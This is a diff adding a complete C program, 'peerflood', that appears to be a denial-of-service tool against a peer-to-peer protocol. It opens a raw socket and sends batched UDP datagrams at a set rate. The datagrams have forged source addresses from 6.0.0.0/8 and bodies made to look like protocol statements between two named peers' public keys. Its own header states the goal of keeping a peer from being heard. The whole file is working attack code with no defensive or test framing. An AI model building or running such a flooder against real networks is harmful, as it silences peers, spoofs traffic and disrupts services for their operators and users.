@@ -1,0 +1,161 @@
+/* SPDX-License-Identifier: ISC */
+/*
+ * peerflood: who wants a peer not to be heard.  Datagrams of a statement's
+ * form, in the name of one peer to another, with all else by chance, from
+ * addresses by chance in 6.0.0.0/8, so many a second.
+ *
+ *	peerflood ADDRESS PORT SENDER RECEIVER RATE
+ *
+ * SENDER and RECEIVER are public keys.  On SIGTERM or SIGINT it ends and
+ * tells what was done:
+ *
+ *	peerflood sent=N ms=N rate=N
+ */
+#include <sys/types.h>
+#include <sys/socket.h>
+
+#include <arpa/inet.h>
+#include <err.h>
+#include <netinet/in.h>
+#include <netinet/ip.h>
+#include <netinet/udp.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+
+#define DATA    166 /* of a statement with one network */
+#define BATCH   64
+#define TICK_NS 1000000
+
+struct packet {
+	struct ip ip;
+	struct udphdr udp;
+	uint8_t data[DATA];
+} __attribute__((__packed__));
+
+static volatile sig_atomic_t stop;
+static struct packet packet[BATCH];
+static struct mmsghdr msg[BATCH];
+static struct iovec iov[BATCH];
+
+static void
+on_signal(int sig)
+{
+	(void)sig;
+	stop = 1;
+}
+
+static int64_t
+now_ns(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (int64_t)ts.tv_sec * 1000000000 + ts.tv_nsec;
+}
+
+/* RFC 4648: the first octets of a key. */
+static void
+key_id(const char *text, uint8_t id[8])
+{
+	static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmn"
+				     "opqrstuvwxyz0123456789+/";
+	const char *d;
+	uint32_t bits = 0, n = 0, i = 0;
+
+	for (; i < 8; text++) {
+		if (*text == '\0' || (d = strchr(digits, *text)) == NULL)
+			errx(1, "not a key");
+		bits = bits << 6 | (uint32_t)(d - digits);
+		n += 6;
+		if (n >= 8) {
+			n -= 8;
+			id[i++] = (uint8_t)(bits >> n);
+		}
+	}
+}
+
+static void
+fill(struct packet *p, const char *to, uint16_t port, const char *sender,
+    const char *receiver)
+{
+	p->ip.ip_v = 4;
+	p->ip.ip_hl = 5;
+	p->ip.ip_ttl = 64;
+	p->ip.ip_p = IPPROTO_UDP;
+	p->ip.ip_len = htons(sizeof(*p));
+	if (inet_pton(AF_INET, to, &p->ip.ip_dst) != 1)
+		errx(1, "not an address: %s", to);
+	p->udp.uh_sport = p->udp.uh_dport = htons(port);
+	p->udp.uh_ulen = htons(sizeof(p->udp) + sizeof(p->data));
+	/* no checksum: it need not have one (RFC 768) */
+	memcpy(p->data, (const uint8_t[]){ 0xdf, 0x70, 1, 1 }, 4);
+	key_id(sender, p->data + 4);
+	key_id(receiver, p->data + 12);
+}
+
+/* Another one of each. */
+static void
+shuffle(void)
+{
+	static uint64_t seed = 1;
+	size_t i, j;
+
+	for (i = 0; i < BATCH; i++) {
+		for (j = 20; j + 8 <= DATA; j += 8) {
+			seed = seed * 6364136223846793005u + 1;
+			memcpy(packet[i].data + j, &seed, sizeof(seed));
+		}
+		packet[i].ip.ip_src.s_addr =
+		    htonl(0x06000000 | (uint32_t)(seed >> 40));
+	}
+}
+
+int
+main(int argc, char *argv[])
+{
+	struct sockaddr_in to = { .sin_family = AF_INET };
+	uint64_t sent = 0;
+	int64_t began, ns, due;
+	int s, n, i;
+	double rate;
+
+	if (argc != 6)
+		errx(2, "usage: peerflood ADDRESS PORT SENDER RECEIVER RATE");
+	rate = atof(argv[5]);
+	if ((s = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW)) == -1)
+		err(1, "socket");
+	for (i = 0; i < BATCH; i++) {
+		fill(&packet[i], argv[1], (uint16_t)atoi(argv[2]), argv[3],
+		    argv[4]);
+		iov[i].iov_base = &packet[i];
+		iov[i].iov_len = sizeof(packet[i]);
+		msg[i].msg_hdr.msg_iov = &iov[i];
+		msg[i].msg_hdr.msg_iovlen = 1;
+		msg[i].msg_hdr.msg_name = &to;
+		msg[i].msg_hdr.msg_namelen = sizeof(to);
+	}
+	to.sin_addr = packet[0].ip.ip_dst;
+	signal(SIGTERM, on_signal);
+	signal(SIGINT, on_signal);
+	began = now_ns();
+	while (!stop) {
+		due = (int64_t)((double)(now_ns() - began) * rate / 1e9);
+		if ((int64_t)sent + BATCH > due) {
+			nanosleep(&(struct timespec){ 0, TICK_NS }, NULL);
+			continue;
+		}
+		shuffle();
+		if ((n = sendmmsg(s, msg, BATCH, 0)) == -1)
+			err(1, "send");
+		sent += (uint64_t)n;
+	}
+	ns = now_ns() - began;
+	printf("peerflood sent=%llu ms=%lld rate=%lld\n",
+	    (unsigned long long)sent, (long long)(ns / 1000000),
+	    (long long)((double)sent * 1e9 / (double)ns));
+	return 0;
+}
